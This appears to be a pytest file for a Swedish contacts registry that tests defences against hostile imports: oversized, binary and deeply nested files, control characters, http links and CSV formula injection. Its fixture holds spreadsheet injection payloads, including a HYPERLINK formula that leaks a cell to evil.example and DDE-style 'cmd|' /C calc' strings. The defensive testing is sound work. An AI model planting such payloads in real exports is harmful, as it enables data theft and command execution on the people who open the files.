"""Hostile input to the registry (issue 13, items K and N): formula injection through CSV, files
that are too large, binary or too deeply nested, control characters and plain http links."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from cli.main import main
from common.clock import FixedClock
from contacts.export import export_csv
from contacts.file_formats import MAX_IMPORT_BYTES, csv_safe, parse_csv, parse_path, parse_yaml
from contacts.registry import RegistryService
from storage.db import Database

from .test_import import GOOD, NOON

# Every cell a spreadsheet could run as a formula, in every kind of column that can hold one.
HOSTILE = """\
after_hours:
  - id: jour
    name: '=HYPERLINK("https://evil.example/?d="&A1, "Klicka här")'
    phone: "+46 8 000 100 00"
    email: "=cmd@example.se"
    url: https://example.se/jour
districts:
  - id: alfa
    name: "@SUM(1+1)*cmd|' /C calc'!A0"
    aliases: ["-2+3+cmd!A0", "+Alfa", "Alfa stadsdel"]
    intake: {name: "+Mottagningen", phone: "+46 8 000 200 00", email: "-m@example.se",
             url: "https://example.se/anmal"}
    office_hours: {days: [mon, tue, wed, thu, fri], open: "08:00", close: "16:30"}
    after_hours: jour
people:
  - {id: p1, name: "-Per", title: "=1+2", district: alfa, phone: "+46 70 000 30 00",
     email: "+per@example.se", teams_upn: "-per@example.se"}
  - {id: p2, name: "'t Hooft", title: "''dubbel", district: alfa, phone: "08-000 300 01"}
schools:
  - {id: s1, name: "@Alfaskolan", aliases: ["'t Alfa", "=Alfa"], district: alfa,
     contact_person: p1}
"""

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def service(db: Database) -> RegistryService:
    return RegistryService(db, clock=FixedClock(NOON))


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# ---- K: CSV formula injection ------------------------------------------------------------------


def test_csv_safe_neutralises_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n", "'", "＝", "＋", "－", "＠"):
        assert csv_safe(f"{start}x") == f"'{start}x"
    assert csv_safe("Alfaskolan") == "Alfaskolan"
    assert csv_safe("08-000 100 00") == "08-000 100 00"
    assert csv_safe("") == ""


async def test_exported_csv_has_no_formula_cells_and_round_trips(
    database: Database, tmp_path: Path
) -> None:
    svc = service(database)
    report = await svc.import_text(HOSTILE, fmt="yaml", source="hostile.yaml")
    assert report.ok, [str(e) for e in report.errors]
    original = await svc.data()

    text = await svc.export("csv")
    rows = cells_of(text)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(DANGEROUS), (cell, row)
    flat = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"https://evil.example/?d=\"&A1, \"Klicka här\")" in flat
    assert "'+46 8 000 100 00" in flat  # the phone number stays readable, only neutralised
    assert "'-2+3+cmd!A0|+Alfa|Alfa stadsdel" in flat
    assert "''t Hooft" in flat and "'''dubbel" in flat
    assert "08-000 300 01" in flat  # a cell that is safe is written as it is

    # A re-import of the exported file gives the same registry back.
    parsed = parse_csv(text, "registry.csv")
    assert not parsed.errors, [str(e) for e in parsed.errors]
    assert parsed.data == original
    assert not (await svc.import_parsed(parsed)).changed

    tables = await svc.export_tables()
    for name, body in tables.items():
        for row in cells_of(body)[1:]:
            for cell in row:
                assert not cell.startswith(DANGEROUS), (name, cell)
        (tmp_path / name).write_text(body, encoding="utf-8")
    parsed_dir = parse_path(tmp_path)
    assert not parsed_dir.errors, [str(e) for e in parsed_dir.errors]
    assert parsed_dir.data == original
    assert not (await svc.import_parsed(parsed_dir)).changed


def test_export_csv_of_the_hostile_file_round_trips_without_a_database() -> None:
    parsed = parse_yaml(HOSTILE, "hostile.yaml")
    assert not parsed.errors, [str(e) for e in parsed.errors]
    again = parse_csv(export_csv(parsed.data), "registry.csv")
    assert not again.errors and again.data == parsed.data


def test_hand_written_csv_may_use_the_spreadsheet_quote() -> None:
    text = (
        "table,id,name,phone\n"
        "after_hours,jour,'t Jouren,'+46 8 000 100 00\n"
        "after_hours,jour2,Jouren två,+46 8 000 100 01\n"
    )
    parsed = parse_csv(text, "reg.csv")
    assert not parsed.errors, [str(e) for e in parsed.errors]
    jour, jour2 = parsed.data.after_hours
    assert (jour.name, jour.phone) == ("'t Jouren", "+46 8 000 100 00")
    assert jour2.phone == "+46 8 000 100 01"


# ---- N: files that are too large, binary or too deeply nested ----------------------------------


def _one_error(path: Path, fmt: str | None = None) -> str:
    parsed = parse_path(path, fmt)
    assert len(parsed.errors) == 1, [str(e) for e in parsed.errors]
    return str(parsed.errors[0])


def test_a_file_over_the_size_limit_is_refused(tmp_path: Path) -> None:
    assert MAX_IMPORT_BYTES == 5 * 1024 * 1024
    big = tmp_path / "big.yaml"
    big.write_bytes(GOOD.encode() + b"#" * MAX_IMPORT_BYTES + b"\n")
    assert _one_error(big) == "big.yaml: filen är för stor: högst 5 MB kan läsas in"
    assert parse_path(tmp_path / "big.yaml").data.schools == []


def test_an_endless_file_is_refused_without_reading_it_all() -> None:
    error = _one_error(Path("/dev/zero"), "yaml")
    assert error == "zero: filen är för stor: högst 5 MB kan läsas in"


@pytest.mark.parametrize("suffix", [".yaml", ".csv"])
def test_binary_files_give_a_named_error(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"bild{suffix}"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x90\x81\x8d" * 50)
    assert _one_error(path) == (
        f"bild{suffix}: filen innehåller binära data (nolltecken) – "
        "den ska vara en textfil i YAML eller CSV"
    )
    # Without NUL bytes but with bytes that are neither UTF-8 nor Windows-1252.
    path.write_bytes(b"table,id\n\x81\x8d\x8f\x90\x9d,x\n")
    assert _one_error(path) == (
        f"bild{suffix}: filen är inte en textfil i UTF-8 eller Windows-1252 (byte 0x81 på rad 2)"
    )


def test_deeply_nested_yaml_gives_a_named_error(tmp_path: Path) -> None:
    path = tmp_path / "nested.yaml"
    path.write_text("districts: " + "[" * 5000 + "]" * 5000 + "\n", encoding="utf-8")
    assert _one_error(path) == "nested.yaml, rad 1: filen är för djupt nästlad (högst 20 nivåer)"
    path.write_text("people:\n  - {id: p1, name: {a: {b: [c]}}, phone: '08-1'}\n")
    assert any("people[p1].name: ska vara en text" in str(e) for e in parse_path(path).errors)


def test_a_csv_field_over_the_csv_limit_gives_a_named_error(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_text('table,id,name\nschools,s1,"' + "x" * 200_000 + '"\n', encoding="utf-8")
    assert _one_error(path).startswith("big.csv, rad 2: CSV-filen kan inte läsas")


def test_control_characters_in_texts_are_refused() -> None:
    text = GOOD.replace("name: Per Exempel", 'name: "Per\\0Exempel"').replace(
        "name: Alfaskolan", 'name: "Alfa\\x1bskolan"'
    )
    errors = [str(e) for e in parse_yaml(text, "reg.yaml").errors]
    assert errors == [
        "reg.yaml, rad 11: people[p1].name: innehåller ett otillåtet tecken (U+0000)",
        "reg.yaml, rad 13: schools[s1].name: innehåller ett otillåtet tecken (U+001B)",
    ]
    # Line breaks and tabs inside a text are whitespace: one line, as before.
    ok = GOOD.replace("name: Per Exempel", 'name: "Per\\r\\nExempel\\t"')
    parsed = parse_yaml(ok, "reg.yaml")
    assert not parsed.errors and parsed.data.people[0].name == "Per Exempel"


async def test_control_characters_change_nothing_on_either_database(database: Database) -> None:
    svc = service(database)
    text = GOOD.replace("name: Per Exempel", 'name: "Per\\0Exempel"')
    report = await svc.import_text(text, fmt="yaml", source="reg.yaml")
    assert not report.ok and await svc.is_empty()


async def test_texts_longer_than_their_column_are_refused_on_either_database(
    database: Database,
) -> None:
    svc = service(database)
    phone = "08-" + "0" * 4 + "-" * 60 + "1"  # a valid number, but longer than the column
    email = "a" * 250 + "@example.se"
    text = GOOD.replace('phone: "08-000 300 00"', f'phone: "{phone}", email: "{email}"')
    errors = [str(e) for e in parse_yaml(text, "reg.yaml").errors]
    assert errors == [
        "reg.yaml, rad 11: people[p1].phone: är för långt (högst 40 tecken)",
        "reg.yaml, rad 11: people[p1].email: är för långt (högst 254 tecken)",
    ]
    report = await svc.import_text(text, fmt="yaml", source="reg.yaml")
    assert not report.ok and await svc.is_empty()


# ---- N: https is required ------------------------------------------------------------------------


def test_plain_http_links_are_refused() -> None:
    text = GOOD.replace(
        "email: m@example.se}", "email: m@example.se, url: http://example.se/anmal}"
    ).replace(
        '{id: jour, name: Socialjouren, phone: "08-000 100 00"}',
        '{id: jour, name: Socialjouren, phone: "08-000 100 00", url: "HTTP://example.se/jour"}',
    )
    errors = [str(e) for e in parse_yaml(text, "reg.yaml").errors]
    assert errors == [
        "reg.yaml, rad 2: after_hours[jour].url: ogiltig webbadress ”HTTP://example.se/jour”: "
        "ska börja med https://",
        "reg.yaml, rad 7: districts[alfa].intake.url: ogiltig webbadress "
        "”http://example.se/anmal”: ska börja med https://",
    ]
    fine = GOOD.replace("email: m@example.se}", "email: m@example.se, url: https://example.se/a}")
    assert not parse_yaml(fine, "reg.yaml").errors


# ---- N: the admin CLI never shows a traceback ----------------------------------------------------


@pytest.fixture
def cli_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    db = tmp_path / "cli.sqlite3"
    monkeypatch.setenv("SAMVERKAN_DATABASE_URL", f"sqlite:///{db}")
    monkeypatch.chdir(tmp_path)
    return db


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("nested.yaml", b"districts: " + b"[" * 5000 + b"]" * 5000, "för djupt nästlad"),
        ("bild.yaml", b"\x89PNG\r\n\x1a\n\x00\x00\x90\x81" * 10, "binära data"),
        ("bild.csv", b"a,b\n\x81\x8d,\x90\n", "inte en textfil"),
        ("big.csv", b'table,id,name\nschools,s1,"' + b"x" * 200_000 + b'"\n', "CSV-filen"),
        ("zero", None, "för stor"),
    ],
)
def test_cli_import_of_hostile_files_exits_1_with_a_swedish_error(
    cli_db: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    name: str,
    content: bytes | None,
    expected: str,
) -> None:
    if content is None:
        argv = ["registry", "import", "/dev/zero", "--format", "yaml"]
    else:
        (tmp_path / name).write_bytes(content)
        argv = ["registry", "import", str(tmp_path / name)]
    code = main(argv)
    out, err = capsys.readouterr()
    assert code == 1 and out == ""
    assert err.startswith("Registret lästes INTE in: 1 fel i "), err
    assert expected in err and "Traceback" not in err
